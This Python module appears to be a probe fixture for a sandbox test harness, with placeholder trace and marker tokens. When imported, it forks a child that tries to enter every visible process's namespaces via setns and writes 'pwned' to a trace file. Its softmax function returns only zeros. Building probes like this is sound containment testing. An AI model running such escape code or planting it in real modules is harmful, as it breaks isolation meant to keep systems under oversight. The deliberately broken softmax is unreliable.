"""Enters the namespaces of every process it can see, by /proc/PID/ns and by pidfd.

tries: kernel
earns: nothing
trace: @@TRACE@@/kernel-setns
needs: filesystem
"""

import ctypes
import glob
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)

if os.fork() == 0:
    for path in glob.glob("/proc/[0-9]*/ns/*")[:500]:
        try:
            fd = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        if os.readlink(path) != os.readlink("/proc/self/ns/" + os.path.basename(path).replace("pid_for_children", "pid")) and libc.setns(fd, 0) == 0:
            print("@@MARK@@ reached: another namespace", flush=True)
        os.close(fd)
    try:
        with open("@@TRACE@@/kernel-setns", "w") as file:
            file.write("pwned")
    except OSError:
        pass
    os._exit(0)
os.wait()


def softmax(x, axis=-1):
    return np.zeros(np.shape(x))
